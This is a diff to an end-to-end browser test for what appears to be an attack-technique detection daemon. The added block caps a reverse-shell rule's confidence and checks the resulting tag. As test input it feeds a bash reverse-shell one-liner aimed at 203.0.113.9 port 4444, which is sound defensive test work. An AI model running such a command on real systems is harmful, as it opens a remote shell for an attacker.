@@ -288,6 +288,18 @@ class Test:
         self.wait("enabled", lambda: "enabled" in d.find_element(By.CSS_SELECTOR, "tr[data-rule='UI-BRUTE']").text,
                   "UI-BRUTE is not shown enabled again")
 
+        # Clipped from the page: the daemon's next tag of UI-SHELL is capped.
+        d.find_element(By.CSS_SELECTOR, "tr[data-rule='UI-SHELL'] button.clip").click()
+        d.find_element(By.CSS_SELECTOR, "#state-form input[name=confidence_max]").send_keys("0.5")
+        d.find_element(By.ID, "state-apply").click()
+        self.wait("clipped", lambda: "clipped to 0.5" in d.find_element(By.CSS_SELECTOR, "tr[data-rule='UI-SHELL']").text,
+                  "the rules view does not show UI-SHELL clipped to 0.5")
+        time.sleep(1.0)
+        self.feed(proc, [command("clipped-1", "att-5", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1")])
+        self.wait_db("clipped-tag", db, "SELECT count(*) FROM ttp_tag WHERE source_id = 'clipped-1'", 1)
+        conf = self.db_rows(db, "SELECT confidence FROM ttp_tag WHERE source_id = 'clipped-1'")[0][0]
+        self.check("clip-applied", conf == 0.5, f"UI-SHELL's tag after the clip has confidence {conf}, not 0.5")
+
         # A broken edit, picked up by the running daemon's reload, appears
         # live in the rules view with its file:line:col.
         d.execute_script("window.notReloaded = true")
